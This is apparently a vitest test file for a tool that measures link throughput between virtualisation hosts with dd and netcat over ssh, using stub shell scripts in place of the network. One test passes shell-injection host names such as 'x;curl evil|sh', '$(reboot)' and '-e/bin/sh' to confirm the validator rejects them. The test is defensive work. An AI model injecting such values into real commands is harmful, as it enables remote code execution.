import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'

import { afterEach, beforeEach, describe, expect, test } from 'vitest'

import { createMeasureLink, measureLines, readCopied } from './measure-link.ts'

describe('what came of a measurement', () => {
  test("bytes and time are those of the target's dd", () => {
    const gnu =
      'Listening on 0.0.0.0 49215\n0+1500 records in\n0+1500 records out\n' +
      '62914560 bytes (63 MB, 60 MiB) copied, 3.0012 s, 21.0 MB/s\n'
    expect(readCopied(gnu, '')).toMatchObject({ bytes: 62_914_560, seconds: 3.0012 })
    const busybox = '8388608 bytes (8.0MB) copied, 0.500000 seconds, 16.0MB/s\n'
    expect(readCopied(busybox, '')).toMatchObject({ mibps: 16 })
    const short = '536870912 bytes (537 MB, 512 MiB) copied, 9.5e-05 s, 5.6 TB/s\n'
    expect(readCopied(short, '')).toMatchObject({ seconds: 0.000_095 })
  })

  test('what only filled a buffer is no measurement', () => {
    const little = '65536 bytes (66 kB, 64 KiB) copied, 0.0001 s, 655 MB/s\n'
    expect(readCopied(little, '')).toMatchObject({ failed: 'unclear' })
  })

  test.each([
    ["timeout: failed to run command 'nc': No such file or directory", 'no-netcat'],
    ['sh: 1: nc: not found', 'no-netcat'],
    ['nc: connect to beta port 49215 (tcp) timed out: Operation now in progress', 'no-way'],
    ['Ncat: Could not resolve hostname "beta": Name or service not known.', 'no-way'],
    ['nc: connect to beta (10.0.0.2) port 49215 (tcp) failed: No route to host', 'no-way'],
  ] as const)('the source says %s: %s', (words, failed) => {
    const none = '0 bytes copied, 9.1 s, 0.0 kB/s\n'
    expect(readCopied(none, words)).toEqual({ failed, end: 'source', words })
  })
})

describe('the name that a host tells', () => {
  test('stands in the lines to copy', () => {
    expect(measureLines({ hostname: 'beta.example' })).toContain(' nc beta.example 49215 <')
  })

  test.each(['x;curl evil|sh', '$(reboot)', '-e/bin/sh', 'a b', "a'b"])(
    'as %s reaches no shell: neither ours nor that of who copies',
    async (hostname) => {
      expect(measureLines({ hostname })).toBeNull()
      const measure = createMeasureLink({ sshCommand: '/nowhere/ssh' })
      const uri = 'qemu+ssh://root@alpha/system'
      expect(await measure({ sourceUri: uri, targetUri: uri, hostname })).toEqual({
        failed: 'no-way',
        end: 'target',
        words: `${hostname} is no host name`,
      })
    },
  )
})

/* Shell scripts stand in for ssh and netcat: who waits for whom, without any network. */
describe('the source sends once the target listens', () => {
  let folder = ''
  beforeEach(() => (folder = mkdtempSync(join(tmpdir(), 'ballast-test-'))))
  afterEach(() => rmSync(folder, { recursive: true, force: true }))

  /** @param login what ssh does before it runs the script on the target @param says the listener's words */
  function measureWith(login: string, says: string, patience: object) {
    const put = (name: string, script: string) =>
      writeFileSync(join(folder, name), `#!/bin/sh\n${script}\n`, { mode: 0o755 })
    put(
      'ssh',
      `echo "$*" >>${folder}/started
      case "$*" in *"-- target "*) ${login}; touch ${folder}/in ;; esac
      PATH=${folder}:$PATH; export PATH
      for script; do :; done; eval "$script"`,
    )
    put(
      'nc',
      `case "$*" in
        *-l*) ${says}; exec cat ${folder}/wire ;;
      esac
      [ -e ${folder}/in ] || { echo "connect to target: Connection refused" >&2; exit 1; }
      exec head -c 2097152 /dev/zero >${folder}/wire`,
    )
    execFileSync('mkfifo', [join(folder, 'wire')])
    const sshCommand = join(folder, 'ssh')
    const usual = { loginMs: 30_000, listenMs: 30_000, ...patience }
    return createMeasureLink(
      { sshCommand },
      usual,
    )({
      sourceUri: 'qemu+ssh://root@source/system',
      targetUri: 'qemu+ssh://root@target/system',
      hostname: 'target',
    })
  }
  const started = () => readFileSync(join(folder, 'started'), 'utf8').trim().split('\n')
  const listening = 'echo "Listening on 0.0.0.0 49215" >&2'

  test('which it says', async () => {
    expect(await measureWith(':', listening, {})).toMatchObject({ bytes: 2_097_151 })
  })

  test('or listens in silence; a slow login is no such silence', async () => {
    const speed = await measureWith('sleep 0.6', ':', { listenMs: 200 })
    expect(speed).toMatchObject({ bytes: 2_097_151 })
  })

  test.each([
    ['exec sleep 60', { loginMs: 1_000 }, 'ssh had not logged in after 1 s'],
    ['echo "Connection closed" >&2; exit 255', {}, 'Connection closed'],
  ])(
    'and where ssh does not log in (%s) nothing is blamed on a port',
    async (login, patience, words) => {
      const speed = await measureWith(login, listening, patience)
      expect(speed).toEqual({ failed: 'unclear', end: 'target', words })
      expect(started()).toHaveLength(1)
    },
  )
})
